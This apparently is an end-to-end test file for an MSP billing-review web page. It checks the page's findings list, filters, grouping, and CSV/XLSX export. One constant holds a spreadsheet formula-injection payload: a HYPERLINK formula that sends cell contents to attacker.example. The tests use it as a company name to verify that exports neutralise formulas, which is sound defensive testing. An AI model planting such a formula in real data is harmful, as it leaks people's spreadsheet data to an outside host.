import { readFileSync } from 'node:fs';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startSimulators } from '@/simulators/world';
import { literally } from './support/panel';
import { listedRows, openReview, shownTotals, TALL } from './support/review-page';
import { type ReviewTruth, reviewTruth, sideOf } from './support/review-truth';
import type { TrueFinding } from './support/true-findings';
import { openWorld, type World } from './support/world';

/** The review page of an MSP whose books are known: what it lists, sums, filters, and takes along. */

/** A company called so by somebody who wants a spreadsheet to call home. */
const HOSTILE = '=HYPERLINK("https://attacker.example/?leak="&A2,"Details")';

let world: World;
let page: Page;
let known: ReviewTruth;
/** The hostile company's. */
let hostile: TrueFinding;

beforeAll(async () => {
  const simulators = await startSimulators({ customers: 30, months: 3 });
  const { truth } = simulators.msp;
  const { companyId } = truth.rows.find(({ variance, trap }) => variance?.startsWith('-') && !trap) ?? {};
  simulators.connectwise.rest.control.edit('companies', companyId ?? 0, { name: HOSTILE });
  world = await openWorld({ done: 'mapped', simulators });
  known = await reviewTruth(world);
  hostile = known.truth.find(
    (one) => one.companyId === companyId && sideOf(one) === 'Over-billed',
  ) as TrueFinding;
  page = await openReview(world, TALL);
});
afterAll(async () => {
  await world?.close();
  await world?.sims.server.close();
});
afterEach(async () => {
  await page.keyboard.press('Escape');
  const clear = page.getByRole('button', { name: 'Clear all', exact: true });
  if (await clear.isVisible()) await clear.click();
});

/** The differences that are listed, and the totals on top, are those and no others. */
async function shows(findings: readonly TrueFinding[]): Promise<void> {
  const wanted = findings.map(known.wanted).toSorted();
  expect(wanted.length).toBeGreaterThan(0);
  await expect
    .poll(async () => (await listedRows(page)).filter(known.differs).map(known.shown).toSorted())
    .toEqual(wanted);
  expect(await shownTotals(page)).toEqual(known.totals(findings));
}
/** Ticks a value of a filter. */
async function filter(name: string, value: string, role: 'checkbox' | 'radio' = 'checkbox'): Promise<void> {
  await page.getByRole('button', { name: new RegExp(`^${name} filter`) }).click();
  const popup = page.getByRole('dialog', { name: `Filter by ${name.toLowerCase()}` });
  await popup.getByRole(role, { name: new RegExp(`^${literally(value)}`) }).check();
  await page.keyboard.press('Escape');
}
const sizeOf = (finding: TrueFinding): bigint => {
  const year = known.yearOf(finding) ?? 0n;
  return year < 0n ? -year : year;
};
const isOverBilled = ({ variance, billed }: TrueFinding): boolean =>
  variance.startsWith('-') && variance !== `-${billed}`;
const compared = (a: bigint, b: bigint): number => (a < b ? -1 : a > b ? 1 : 0);

describe('the list', () => {
  it('has every difference that there is, once, with its money, and no other', async () => {
    expect(new Set(known.truth.map(sideOf)).size).toBe(3);
    await shows(known.truth);
  });

  it('begins with what is worth most, and turns round', async () => {
    const sizes = async () => {
      const rows = (await listedRows(page)).filter(known.differs).map(known.trueOf);
      return rows.flatMap((one) => (one && known.yearOf(one) !== null ? [sizeOf(one)] : []));
    };
    const first = await sizes();
    expect(first.length).toBeGreaterThan(10);
    expect(first).toEqual(first.toSorted(compared).toReversed());
    await page.getByRole('button', { name: /^Largest or latest first/ }).click();
    await expect.poll(sizes).toEqual(first.toReversed().toSorted(compared));
    await page.getByRole('button', { name: /^Smallest or first/ }).click();
    await expect.poll(sizes).toEqual(first);
  });
});

describe('a filter', () => {
  it('by company shows that company’s alone, and sums it up', async () => {
    await filter('Company', HOSTILE);
    await shows(known.truth.filter(({ companyId }) => companyId === hostile.companyId));
  });

  it('by class', async () => {
    await filter('Finding', 'Over-billed');
    await shows(known.truth.filter(isOverBilled));
  });

  it('by what it is worth', async () => {
    await filter('Worth', '100 a month or more', 'radio');
    const worth = known.truth.filter((one) => sizeOf(one) >= 1200n * 10n ** 12n);
    expect(worth.length).toBeLessThan(known.truth.length);
    await shows(worth);
  });

  it('by words, and all of them together', async () => {
    await page.getByLabel('Search findings').fill(hostile.productId);
    const product = known.truth.filter(({ productId }) => productId === hostile.productId);
    await shows(product);
    await filter('Finding', 'Over-billed');
    await shows(product.filter(isOverBilled));
  });

  it('groups: each heading has its own, and what they come to', async () => {
    await page.getByLabel('Group findings').selectOption('company');
    const groups = () =>
      page.evaluate(() => {
        const found: { name: string; worth: string; ids: string[] }[] = [];
        const lines = [...document.querySelectorAll<HTMLElement>('tr.finding-line')].toSorted(
          (a, b) => Number(a.dataset.index) - Number(b.dataset.index),
        );
        for (const line of lines) {
          const text = (name: string) => line.querySelector(`.finding-group-${name}`)?.textContent ?? '';
          if (line.dataset.kind === 'group')
            found.push({ name: text('name').trim(), worth: text('worth'), ids: [] });
          else found.at(-1)?.ids.push(line.dataset.id ?? '');
        }
        return found;
      });
    await expect.poll(async () => (await groups()).length).toBeGreaterThan(5);
    const shown = await groups();
    expect(shown.flatMap(({ ids }) => ids).toSorted()).toEqual(known.open.toSorted());
    for (const { name, worth, ids } of shown) {
      for (const id of ids) expect(known.items.get(id)?.companyName || 'No company').toBe(name);
      const own = ids.flatMap((id) => (known.items.get(id)?.variance == null ? [] : known.trueOf({ id })));
      const priced = own.flatMap((one) => (one && known.yearOf(one) !== null ? [one] : []));
      const total = known.totals(priced).Together.month;
      expect(worth).toContain(priced.length === 0 ? '' : `${total} a month`);
    }
    await page.getByLabel('Group findings').selectOption('none');
  });
});

describe('taken along', () => {
  async function taken(format: 'CSV' | 'XLSX'): Promise<Buffer> {
    await page.getByRole('button', { name: 'Export' }).click();
    const download = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: new RegExp(`^${format}`) }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(new RegExp(`\\.${format.toLowerCase()}$`));
    return readFileSync(await file.path());
  }
  /** What is listed, in its order, as the files have it. */
  const listed = async (companyOf: (name: string) => string) =>
    (await listedRows(page)).map(({ id }) => {
      const item = known.items.get(id);
      const finding = known.trueOf({ id });
      return [
        companyOf(item?.companyName ?? ''),
        item?.productName ?? '',
        finding?.billed ?? '',
        finding?.variance ?? '',
      ];
    });

  it('as CSV: the rows of the list in their order, and no cell that a spreadsheet works out', async () => {
    await filter('Finding', 'Over-billed');
    await shows(known.truth.filter(isOverBilled));
    const text = (await taken('CSV')).toString('utf8');
    const [head = [], ...rows] = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), {
      skipEmptyLines: true,
    }).data;
    const at = ['Company', 'Product', 'Billed', 'Difference'].map((label) => head.indexOf(label));
    const wanted = await listed((name) => (name === HOSTILE ? `'${HOSTILE}` : name));
    expect(rows.map((row) => at.map((column) => row[column]))).toEqual(wanted);
    expect(wanted.some(([company]) => company === `'${HOSTILE}`)).toBe(true);
    expect(rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?![\d.]+$)/.test(cell))).toEqual([]);
  });

  it('as XLSX: numbers are numbers, text is text, and nothing is a formula', async () => {
    await filter('Finding', 'Over-billed');
    await shows(known.truth.filter(isOverBilled));
    const files = unzipSync(new Uint8Array(await taken('XLSX')));
    const xml = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(
      Object.values(files)
        .map((file) => strFromU8(file))
        .join(),
    ).not.toMatch(/<f[ >]/);
    const [head = [], ...rows] = await page.evaluate((text) => {
      const sheet = new DOMParser().parseFromString(text, 'application/xml');
      return [...sheet.querySelectorAll('row')].map((row) =>
        [...row.querySelectorAll('c')].map((cell) => ({
          column: (cell.getAttribute('r') ?? '').replace(/\d/g, ''),
          isNumber: cell.getAttribute('t') === null,
          text: cell.textContent ?? '',
        })),
      );
    }, xml);
    const columns = ['Company', 'Product', 'Billed', 'Difference'].map(
      (label) => head.find(({ text }) => text === label)?.column,
    );
    const cells = rows.map((row) => columns.map((column) => row.find((cell) => cell.column === column)));
    expect(cells.map((row) => row.map((cell) => cell?.text ?? ''))).toEqual(await listed((name) => name));
    expect(new Set(cells.flatMap((row) => row.map((cell, column) => `${column} ${cell?.isNumber}`)))).toEqual(
      new Set(['0 false', '1 false', '2 true', '3 true']),
    );
  });
});
